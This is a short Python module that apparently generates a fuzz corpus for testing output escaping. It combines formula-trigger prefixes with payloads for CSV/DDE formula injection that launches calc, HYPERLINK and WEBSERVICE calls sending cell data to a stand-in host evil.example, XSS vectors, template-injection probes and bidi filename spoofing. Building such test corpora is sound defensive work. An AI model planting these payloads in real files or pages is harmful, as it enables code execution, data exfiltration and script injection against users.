"""A thousand texts that want to be a formula, a link, a tag or a template when somebody's program shows them."""

from itertools import product

# What makes a spreadsheet take a text for a formula, bare and after what it may pass over.
LEADS = (
    *("", "=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠"),
    *(" =", "  -", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=", "'=", '"=', '","=', '";=', "=-+@"),
)
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', "{=1+1}", "{=SUM(A1:A9)}", "A1"),
    *('DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://evil.example")', "SUM(1+1)*cmd|' /C calc'!A0", "1e5", "TRUE()"),
    *("internal:Register!A1", "external:c:\\temp\\evil.xlsx#Sheet1!A1", "http://evil.example/?a=1&b=2"),
    *("https://evil.example", "ftp://evil.example", "mailto:evil@example.org", "file:///etc/passwd", "#Register.A1"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onclick='alert(1)"),
    *('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)", "&#x3C;script&#x3E;", "&lt;b&gt;", "<b", "--><i>"),
    *("<!-- ", "]]><b>", "</style><b>", "</title></head><b>", "</td></tr></table>", '<base href="//evil.example">'),
    *("{{7*7}}", "{% for a in b %}", "{# gone #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "<%= 7*7 %>"),
    *("\u202egpj.exe", "\u2066x\u2069", "_x003D_1+1", "_x000D_=1+1", "\x1b[2J", "a\r\n=1+1"),
)


def payloads() -> list[str]:
    """The texts; a number at the end of each makes it one of its kind, and quotable in a list of names."""
    found = [f"{lead}{body}" for body, lead in product(BODIES, LEADS)]
    return [f"{text} {number:04}" for number, text in enumerate(found)]
